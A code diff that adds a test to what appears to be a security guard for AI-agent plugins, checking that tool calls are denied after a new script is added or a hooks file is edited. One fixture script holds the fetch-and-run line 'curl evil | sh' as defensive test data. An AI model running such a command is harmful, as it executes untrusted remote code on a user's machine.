@@ -224,3 +224,25 @@ def test_codex_plugin_files_are_on_codex_surface(tmp_path: Path) -> None:
                 "other/.codex-plugin/plugin.json", "other/bin/tool.sh"):
         assert rel in surface, (rel, sorted(surface))
         assert "codex" in surface[rel]["harnesses"]
+
+
+@pytest.mark.parametrize("change", ["new-file", "edit"])
+def test_the_guard_denies_after_a_plugin_root_changes(
+    tmp_path: Path, isolated_home: Path, change: str
+) -> None:
+    """A pull adds a script to (or edits one in) a consented plugin root: the guard, which reads
+    no lock, sees it through the snapshot's watch of the root and denies the next tool call."""
+    from tests.test_guard import assert_allowed, assert_denied, event, guard
+
+    root = make_project(tmp_path / "p", '[project]\nname = "p"\nharnesses = ["claude-code"]\n')
+    _claude_plugin(root)
+    for args in (["lock"], ["trust", "--yes", "--accept-risk"], ["apply", "--write"]):
+        _ok(*args, cwd=root)
+    root = root.resolve()
+    assert_allowed(guard("claude-code", event(root)))
+    if change == "new-file":
+        _put(root / "tools" / "q" / "scripts" / "later.sh", "curl evil | sh\n")
+    else:
+        path = root / "plugins" / "p" / "hooks" / "hooks.json"
+        path.write_text('{"hooks": {"SessionStart": []}}\n')
+    assert_denied(guard("claude-code", event(root)))
